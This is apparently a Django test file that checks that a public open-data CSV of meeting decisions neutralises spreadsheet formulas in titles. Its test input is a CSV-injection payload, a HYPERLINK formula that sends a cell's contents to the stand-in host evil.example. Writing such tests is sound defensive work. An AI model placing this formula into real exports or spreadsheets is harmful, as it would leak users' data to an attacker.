"""The public open-data CSV does not carry a formula into a spreadsheet (core.csvfiles)."""

import csv
import io

from django.urls import reverse

from chancery.core.models import AccessLevel
from chancery.decisions.testing import decided_meeting
from chancery.decisions.testing import release as release_meeting


def test_the_open_data_file_neutralises_a_formula_in_a_title(
    client, secretariat, meeting, add, django_capture_on_commit_callbacks
):
    title = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    decided_meeting(secretariat, meeting, add, [(title, AccessLevel.PUBLIC)], text="Besluit")
    with django_capture_on_commit_callbacks(execute=True):
        release_meeting(secretariat, meeting)
    response = client.get(reverse("open_data_file", args=["decisions.csv"]))
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["short_title"] == "'" + title
